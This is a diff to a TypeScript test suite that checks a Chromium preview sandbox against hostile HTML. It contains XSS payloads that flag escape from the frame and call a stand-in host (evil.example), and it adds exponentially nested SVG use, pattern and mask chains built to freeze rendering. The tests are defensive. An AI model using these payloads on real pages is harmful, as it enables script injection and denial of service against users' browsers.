@@ -7,6 +7,12 @@ import { PreviewPage } from '../support/preview-page.ts';
 const act = "try{parent.pwned=1}catch(e){}try{top.pwned=1}catch(e){}window.pwned=1;fetch('https://evil.example/ran')";
 const inAttribute = act.replaceAll('"', '&quot;');
 
+/** Elements each of which is drawn ten times by the next, and the last of them once more. */
+const levels = Array.from({ length: 16 }, (_, level) => `level${level}`);
+const multiplied = (name: string, draw: (id: string) => string): string =>
+  levels.map((id, level) => `<${name} id="${id}">${draw(levels[level - 1] ?? 'none').repeat(10)}</${name}>`).join('') +
+  draw('level15');
+
 /** Ways to run a script, to reach the network, and to get out of the frame. */
 const hostile: Readonly<Record<string, string>> = {
   script: `<script>${act}</script>`,
@@ -47,6 +53,15 @@ const hostile: Readonly<Record<string, string>> = {
   'nonce guessing': `<script nonce="cGFnZS1ub25jZQ">${act}</script><script nonce="">${act}</script>`,
 };
 
+/** Some kilobytes that a window would never come back from drawing: no policy keeps it from that. */
+const exhausting: Readonly<Record<string, string>> = {
+  'svg that is drawn a billion times': `<svg>${multiplied('g', (id) => `<use href="#${id}"/>`)}</svg>`,
+  'patterns of patterns': `<svg>${multiplied('pattern', (id) => `<rect width="9" height="9" fill="url(#${id})"/>`)}</svg>`,
+  'masks of masks': `<svg>${multiplied('mask', (id) => `<rect width="9" height="9" style="mask:url(#${id})"/>`)}</svg>`,
+  'masks by a style sheet': `<style>${levels.map((id) => `.${id}{mask:url(#${id})}`).join('')}</style><svg>${multiplied('mask', (id) => `<rect width="9" height="9" class="${id}"/>`)}</svg>`,
+  'masks by variables': `<style>${levels.map((id) => `.${id}{mask:var(--${id})}`).join('')}</style><svg style="${levels.map((id) => `--${id}:url(#${id})`).join(';')}">${multiplied('mask', (id) => `<rect width="9" height="9" class="${id}"/>`)}</svg>`,
+};
+
 describe('preview sandbox, in Chromium', function () {
   this.timeout(60_000);
   let preview: PreviewPage;
@@ -60,7 +75,7 @@ describe('preview sandbox, in Chromium', function () {
     if (elsewhere || this.currentTest?.state === 'failed') await preview.reset();
   });
 
-  for (const [name, html] of Object.entries(hostile)) {
+  for (const [name, html] of Object.entries({ ...hostile, ...exhausting })) {
     it(`holds: ${name}`, async () => {
       preview.leaks.length = 0;
       preview.said.length = 0;
